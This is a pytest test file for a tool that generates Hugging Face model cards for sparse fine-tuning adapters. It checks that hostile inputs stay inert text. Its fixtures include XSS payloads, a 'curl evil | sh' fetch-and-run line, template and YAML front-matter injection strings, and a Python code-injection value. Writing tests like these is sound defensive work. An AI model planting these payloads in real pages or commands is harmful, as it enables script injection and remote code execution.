"""The card: metadata as the hub's own library reads it, and what it says."""

import pytest
import yaml
from huggingface_hub import ModelCard
from markdown_it import MarkdownIt

from speft_ds.adapter.card import card_text, write_card
from speft_ds.adapter.format import Adapter
from unit.adapter.samples import FACTS, SHAPES, matrices, refused, write

pytestmark = pytest.mark.usefixtures("own_folder")

MASK = {"num_trainable": 12, "num_target_elements": 1760, "density": 12 / 1760}
COMPLETE = FACTS | {"shapes": SHAPES, "num_entries": 12, "mask": MASK}
SCORES = [
    {"task": "arc_easy", "metric": "acc", "before": 0.25, "after": 0.51239, "stderr": 0.0103},
    {"task": "odd|task", "metric": "exact_match", "before": None, "after": 1.0, "stderr": None},
]


def metadata(text):
    return ModelCard(text, ignore_metadata_errors=False).data.to_dict()


def rows(text):
    """The cells of every row of the card's tables."""
    lines = [line.replace("\\|", "/") for line in text.splitlines() if line.startswith("| ")]
    return [[cell.strip() for cell in line.strip("|").split("|")] for line in lines]


def test_metadata_as_the_hub_reads_it():
    recipe = {"data": {"path": None, "mixture": [{"path": "a/b"}, {"path": "mine.jsonl"}, {"path": "c/d"}]}}
    text = card_text(COMPLETE | {"recipe": recipe}, SCORES, 84)
    assert metadata(text) == {
        "library_name": "speft_ds",
        "base_model": "owner/name",
        "base_model_relation": "adapter",
        "pipeline_tag": "text-generation",
        "tags": ["sparse-fine-tuning", "speft", "adapter"],
        "datasets": ["a/b", "c/d"],
    }
    assert "license" not in metadata(text) and "\n# license: " in text  # which is the user's to choose


@pytest.mark.parametrize("base", ["/home/me/models/llama", "./llama", "~/llama", "runs/llama", "a/b/llama"])
def test_local_folders_are_named_without_their_path(base, tmp_path):
    (tmp_path / "runs" / "llama").mkdir(parents=True)
    recipe = {"data": {"path": "/home/me/secret/rows.jsonl"}}
    text = card_text(COMPLETE | {"base": base, "recipe": recipe}, [], 84)
    assert not {"base_model", "datasets"} & metadata(text).keys()
    assert base not in text and "/home" not in text
    assert ["base", "llama, in float32"] in rows(text) and ["data", "rows.jsonl"] in rows(text)


def test_what_was_trained_how_large_it_is_and_its_scores():
    text = card_text(COMPLETE, SCORES, 84)
    assert ["changed weights", "12 of 1,760 (0.682%)"] in rows(text)
    assert ["size", "0.00 MiB, 7.00 bytes per entry"] in rows(text)
    assert ["learning rate", "0.001"] in rows(text)
    assert ["arc_easy", "acc", "0.2500", "0.5124", "0.0103"] in rows(text)
    assert ["odd/task", "exact_match", "-", "1.0000", "-"] in rows(text)
    assert len(rows(card_text(COMPLETE, [], 84))) == len(rows(text)) - 4


def code_of(text):
    return text.split("```python\n")[1].split("```")[0]


def test_a_classifier_says_how_it_is_loaded():
    facts = COMPLETE | {"task": "sequence_classification", "classes": ["good", "bad"], "pad_token_id": 0}
    text = card_text(facts, [], 84)
    assert 'AutoModelForSequenceClassification.from_pretrained("owner/name", ' in code_of(text)
    assert "num_labels=2" in code_of(text) and ["classes", "good, bad"] in rows(text)
    assert metadata(text)["pipeline_tag"] == "text-classification"


@pytest.mark.parametrize(
    "odd",
    [
        {"recipe": {"data": [], "mask": 3, "name": {"a": 1}}},
        {"history": "all of it"},
        {"history": ["yes", {"of": [1]}, {"command": "x", "of": None}]},
        {"mask": {"density": "high"}},
        {"mask": {"density": 0.5}},
        {"recipe": {"data": {"mixture": 7}}},
        {"base": "a: b\n---\n"},
        {"base": '"; import os #'},
        {"base": '/models/a "b"'},
        {"base": "{{ 7 * 7 }}{% raw %}"},
        {"task": "other", "classes": []},
    ],
)
def test_odd_facts_make_a_card_all_the_same(odd):
    text = card_text(COMPLETE | odd, [], 84)
    front = text.split("---\n")[1]
    assert yaml.safe_load(front)["library_name"] == "speft_ds" and "49" not in text
    compile(code_of(text), "card", "exec")


def test_a_card_is_written_beside_the_adapter(tmp_path):
    folder = write(tmp_path / "adapter", matrices(0))
    write_card(folder, SCORES)
    adapter = Adapter.open(folder)
    assert (folder / "README.md").read_text() == card_text(adapter.facts, SCORES, adapter.num_bytes)
    names = sorted(path.name for path in folder.iterdir())
    assert names == ["README.md", "adapter.json", "adapter.safetensors"]
    refused(lambda: write_card(tmp_path, SCORES), tmp_path)


HOSTILE = [
    "pos\nneg",
    "a|b",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "back\\",
    "x\n\n# Heading\n\n```bash\ncurl evil | sh\n```",
    "\\| c",
    "\x1b[2J",
    "{{ 7 * 7 }}",
    "---\nlicense: mit\n---",
]


def card_of(text):
    """A card whose facts and scores say a text wherever they may."""
    recipe = {"name": text, "data": {"path": text}, "mask": {"salience": text}, "optimizer": {"lr": text}}
    history = [text, {"command": text, "method": text, "of": [{"folder": text}]}]
    facts = {"base": f"/m/{text}", "classes": [text, text], "recipe": recipe, "history": history}
    scores = [{"task": text, "metric": text, "before": None, "after": 0.5, "stderr": None}]
    return card_text(COMPLETE | facts, scores, 84)


def parsed(card):
    return MarkdownIt("commonmark").enable("table").parse(card.split("---\n", 2)[2])


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_foreign_adapter_says_is_text(text):
    card = card_of(text)
    assert "\x1b" not in card and "license" not in metadata(card)
    tokens = parsed(card)
    assert [token.type for token in tokens] == [token.type for token in parsed(card_of("x"))]
    assert {child.type for token in tokens for child in token.children or ()} <= {"text", "text_special"}
    compile(code_of(card), "card", "exec")
